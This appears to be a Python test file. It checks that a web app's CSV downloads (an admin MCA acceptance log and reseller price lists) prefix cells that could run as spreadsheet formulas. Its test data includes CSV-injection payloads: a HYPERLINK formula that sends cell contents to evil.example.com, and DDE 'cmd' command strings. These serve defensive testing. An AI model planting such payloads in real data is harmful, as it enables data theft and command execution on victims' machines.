"""Every CSV download neutralises cells a spreadsheet would run as a formula (OWASP CSV injection):
the MCA log (admin) and the price lists (catalog)."""
from __future__ import annotations

import csv
import io

from app.web.csv_export import safe_cell

HOSTILE = {
    "equals": '=HYPERLINK("http://evil.example.com/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_safe_cell_prefixes_formula_starts_and_leaves_the_rest():
    for value in HOSTILE.values():
        assert safe_cell(value) == "'" + value
    assert safe_cell("Contoso =1") == "Contoso =1"
    assert safe_cell("-12.50") == "-12.50" and safe_cell("-3") == "-3"  # plain numbers stay numbers
    assert safe_cell(None) == "" and safe_cell(42) == "42"


def test_the_mca_log_export_neutralises_what_buyers_typed(operator_client, db):
    from app.accounts.models import Account, User
    from app.checkout.models import McaAcceptance

    reseller = db.session.scalar(db.select(User).where(User.email == "reseller@example.com"))
    db.session.add(McaAcceptance(
        kind="confirmed", account_id=reseller.account_id, user_id=reseller.id, customer_name=HOSTILE["equals"],
        tenant_domain="fabrikam.onmicrosoft.com", first_name=HOSTILE["plus"], last_name=HOSTILE["minus"],
        email="it@fabrikam.example.com", phone="+48 22 555 0134", template_id="117a3d7c-0000-4000-8000-000000000001",
        ip_address="203.0.113.9", user_agent=HOSTILE["at"]))
    db.session.commit()
    assert db.session.get(Account, reseller.account_id).name == "Adatum IT Services"

    header, row = _rows(operator_client.get("/admin/mca?format=csv"))
    cells = dict(zip(header, row))
    assert cells["Customer"] == "'" + HOSTILE["equals"]
    assert cells["Signatory first name"] == "'" + HOSTILE["plus"]
    assert cells["Signatory last name"] == "'" + HOSTILE["minus"]
    assert cells["Browser"] == "'" + HOSTILE["at"]
    assert cells["Phone"] == "'+48 22 555 0134"  # a leading + is a formula to a spreadsheet too
    assert cells["Account"] == "Adatum IT Services" and cells["IP address"] == "203.0.113.9"


def test_the_price_list_download_neutralises_values_from_the_price_sheet(reseller_client, db):
    from app.catalog.models import PriceListEntry

    entry = db.session.scalar(db.select(PriceListEntry).where(PriceListEntry.market == "US",
                                                              PriceListEntry.billing_plan == "monthly")
                              .order_by(PriceListEntry.id).limit(1))
    entry.product_title = HOSTILE["equals"]
    entry.sku_title = HOSTILE["tab"]
    entry.unit_of_measure = HOSTILE["at"]
    db.session.commit()

    rows = list(csv.DictReader(io.StringIO(reseller_client.get("/catalog/price-lists/US/download.csv")
                                           .get_data(as_text=True))))
    [row] = [r for r in rows if r["SkuId"] == entry.sku_id and r["ProductId"] == entry.product_id
             and r["TermDuration"] == entry.term_duration and r["BillingPlan"] == "Monthly"]
    assert row["ProductTitle"] == "'" + HOSTILE["equals"]
    assert row["SkuTitle"] == "'" + HOSTILE["tab"]
    assert row["UnitOfMeasure"] == "'" + HOSTILE["at"]
    assert row["UnitPrice"] == f"{entry.unit_price:.2f}" and row["ERP Price"] == f"{entry.erp_price:.2f}"
